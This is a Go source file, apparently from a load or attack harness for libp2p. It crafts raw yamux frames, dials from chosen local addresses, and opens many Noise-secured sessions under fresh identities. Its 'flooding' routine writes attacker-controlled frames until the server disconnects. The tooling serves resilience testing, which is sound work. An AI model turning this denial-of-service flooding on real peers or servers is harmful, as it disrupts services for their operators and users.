package main

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"time"

	"github.com/libp2p/go-libp2p/core/sec"
	"github.com/libp2p/go-libp2p/p2p/muxer/yamux"
	"github.com/libp2p/go-libp2p/p2p/security/noise"
	mss "github.com/multiformats/go-multistream"
)

// yamux frames (github.com/hashicorp/yamux/blob/master/spec.md)
const (
	frameData, frameWindow, framePing, frameGoAway = 0, 1, 2, 3
	flagSYN, flagACK, flagFIN, flagRST             = 1, 2, 4, 8

	initialWindow = 256 << 10
	writeLimit    = 5 * time.Second
)

func yamuxFrame(kind byte, flags uint16, id, length uint32, payload ...byte) []byte {
	frame := make([]byte, 12, 12+len(payload))
	frame[1] = kind
	binary.BigEndian.PutUint16(frame[2:], flags)
	binary.BigEndian.PutUint32(frame[4:], id)
	binary.BigEndian.PutUint32(frame[8:], length)
	return append(frame, payload...)
}

// delimited puts the length in front.
func delimited(message []byte) []byte {
	return append(binary.AppendUvarint(nil, uint64(len(message))), message...)
}

// proposal is what a stream begins with: multistream's greeting, and the protocol without waiting for an answer.
func proposal(protocol string) []byte {
	return append(delimited([]byte("/multistream/1.0.0\n")), delimited([]byte(protocol+"\n"))...)
}

// rawSession is a secured connection on which every byte of yamux is the attacker's own: no library limits it.
type rawSession struct {
	*client
	tcp    *net.TCPConn
	secure sec.SecureConn
	nextID uint32
}

// dialRaw connects by TCP alone; what is closed leaves no port behind.
func (a *attacker) dialRaw() (*net.TCPConn, string, error) {
	source := a.source()
	dialer := net.Dialer{Timeout: a.dialTimeout, LocalAddr: &net.TCPAddr{IP: net.ParseIP(source)}}
	conn, err := dialer.Dial("tcp4", a.serverTCP)
	if err != nil {
		return nil, source, err
	}
	tcp := conn.(*net.TCPConn)
	return tcp, source, tcp.SetLinger(0)
}

// session is a new identity with a Noise connection and yamux on it.
func (a *attacker) session() (*rawSession, error) {
	c, err := a.newClient(int(a.next.Load()))
	if err != nil {
		return nil, err
	}
	tcp, source, err := a.dialRaw()
	if err != nil {
		return nil, err
	}
	c.moveTo(source)
	s := &rawSession{client: c, tcp: tcp, nextID: 1}
	if err := s.secured(); err != nil {
		tcp.Close()
		return nil, err
	}
	return s, nil
}

func (s *rawSession) secured() error {
	ctx, cancel := context.WithTimeout(context.Background(), s.load.dialTimeout)
	defer cancel()
	if err := s.tcp.SetDeadline(time.Now().Add(s.load.dialTimeout)); err != nil {
		return err
	}
	transport, err := noise.New(noise.ID, s.key, muxers)
	if err != nil {
		return err
	}
	if err := mss.SelectProtoOrFail(string(noise.ID), s.tcp); err != nil {
		return err
	}
	if s.secure, err = transport.SecureOutbound(ctx, s.tcp, s.load.serverID); err != nil {
		return err
	}
	if s.secure.ConnState().StreamMultiplexer != yamux.ID {
		if err := mss.SelectProtoOrFail(string(yamux.ID), s.secure); err != nil {
			return err
		}
	}
	return s.tcp.SetDeadline(time.Time{})
}

// drain reads what comes, and drops it, until the connection ends.
func (s *rawSession) drain() { go io.Copy(io.Discard, s.secure) }

func (s *rawSession) end() { s.tcp.Close() }

func (s *rawSession) write(frames []byte) error {
	s.tcp.SetWriteDeadline(time.Now().Add(writeLimit))
	_, err := s.secure.Write(frames)
	return err
}

// stream are the frames of a new stream with its first bytes.
func (s *rawSession) stream(content []byte, flags uint16) []byte {
	id := s.nextID
	s.nextID += 2
	return yamuxFrame(frameData, flagSYN|flags, id, uint32(len(content)), content...)
}

// flooding opens sessions and writes what next gives, until the server ends them.
func (a *attacker) flooding(workers int, reads bool, next func(s *rawSession) (frames []byte, what string, count int)) {
	a.repeat(workers, func() error {
		s, err := a.session()
		if err != nil {
			return err
		}
		defer s.end()
		a.count("connections", 1)
		if reads {
			s.drain()
		}
		for !a.over() {
			frames, what, count := next(s)
			if s.write(frames) != nil {
				a.count("cut off", 1)
				return nil
			}
			a.count(what, count)
		}
		return nil
	})
}
